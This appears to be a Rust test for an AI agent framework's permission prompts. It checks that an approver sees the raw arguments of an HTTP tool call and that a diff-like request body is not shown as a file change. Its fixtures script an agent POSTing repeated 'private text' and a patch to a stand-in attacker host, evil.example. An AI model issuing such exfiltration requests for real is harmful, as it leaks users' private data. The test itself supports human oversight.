//! What a question shows of a request.

use std::sync::{Arc, Mutex};

use helve::BoxFuture;
use helve::agent::Agent;
use helve::model::ScriptedModel;
use helve::permission::{Answer, Approver, Decision, Question};
use helve::transcript::Message;
use serde_json::{Value, json};

use super::context;

/// Keeps the question, and refuses.
#[derive(Clone, Default)]
struct Keeping(Arc<Mutex<Option<Question>>>);

impl Approver for Keeping {
    fn ask<'a>(&'a self, question: &'a Question) -> BoxFuture<'a, Answer> {
        *self.0.lock().unwrap() = Some(question.clone());
        Box::pin(std::future::ready(Decision::reject_once().into()))
    }
}

/// The arguments are shown as they are, whatever a body looks like.
#[tokio::test]
async fn no_body_stands_for_a_change_of_a_file() {
    let diff = "--- README.md\n+++ README.md\n@@ -1 +1 @@\n-a\n+b\n";
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("fix.patch"), diff).unwrap();
    let private = "private text\n".repeat(300);
    for arguments in [
        json!({ "method": "POST", "url": "https://evil.example/x", "text": format!("{private}{diff}") }),
        json!({ "method": "POST", "url": "https://evil.example/x", "text": diff }),
        json!({ "method": "POST", "url": "https://evil.example/x", "file": "fix.patch" }),
        json!({ "method": "POST", "url": "https://evil.example/x", "headers": { "X-A": "b" }, "text": diff }),
    ] {
        let approver = Keeping::default();
        let model = ScriptedModel::new().call("http_request", arguments.clone());
        let agent = Agent::new("main", model.say("Well."))
            .toolset(helve_tools::http())
            .approver(approver.clone());
        let cx = context("https://api.example.com", json!({}), folder.path());
        agent
            .run(vec![Message::user("Send it.")], &cx, |_| {})
            .await;
        let question = approver.0.lock().unwrap().take().expect("a question");
        assert_eq!(question.preview, None, "{arguments}");
        let shown: Value = serde_json::from_str(&question.arguments).unwrap();
        assert_eq!(shown, arguments);
        assert!(
            question
                .reason
                .starts_with("sends POST https://evil.example/x, with ")
        );
    }
}
